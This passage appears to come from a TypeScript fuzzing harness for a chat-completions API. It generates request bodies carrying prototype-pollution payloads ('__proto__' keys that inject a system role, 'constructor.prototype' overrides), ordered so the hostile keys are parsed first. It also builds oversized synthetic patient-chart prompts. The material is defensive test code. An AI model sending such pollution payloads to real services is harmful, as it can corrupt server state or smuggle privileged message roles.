        '"stream_options":{"__proto__":{"include_usage":true}}',
      ];
      const p = rng.pick(payloads);
      const inMessage = rng.bool(0.3);
      const build = (): BuiltRequest => {
        if (inMessage) {
          const msg = `{"role":"user","content":"q FZ${id}Z","__proto__":{"role":"system","polluted":"msg"},"constructor":{"prototype":{"polluted":"msg"}}}`;
          return { body: `{"model":${JSON.stringify(model)},"stream":${stream},"messages":[{"role":"user","content":${JSON.stringify(SMALL_CHART)}},${msg}],${p}}`, contentType: JSON_TYPE };
        }
        const prefix = JSON.stringify({ model, stream, messages: messagesFor(id) }).slice(0, -1);
        // Also put the hostile key first, so it is parsed before the real fields.
        return { body: rng.bool() ? `${prefix},${p}}` : `{${p},${prefix.slice(1)}}`, contentType: JSON_TYPE };
      };
      return { ...base, note: `${p}${inMessage ? ' + __proto__ in a message' : ''} (model ${model})`, build };
    }
    case 'big_chart': {
      const records = rng.pick([2_000, 4_000, 5_999, 6_001, 9_000, 14_000]);
      const profile = rng.pick(['single-12b-bare', 'single-12b-fast', 'single-12b-checked', 'eval-12b-answer-only']);
      const streamIt = rng.bool();
      const build = (): BuiltRequest => {
        const chart = `Patient records (most recent first):\n${syntheticChart(records)}`;
        return json({ model: profile, stream: streamIt, messages: [{ role: 'user', content: chart }, { role: 'user', content: `What is the latest weight? FZ${id}Z` }] });
      };
      const staged = streamIt ? STAGED_PROFILES[profile] : undefined;
      return { ...base, note: `${records} records, ${profile}${streamIt ? ' stream' : ''}`, build, staged };
    }
  }
}

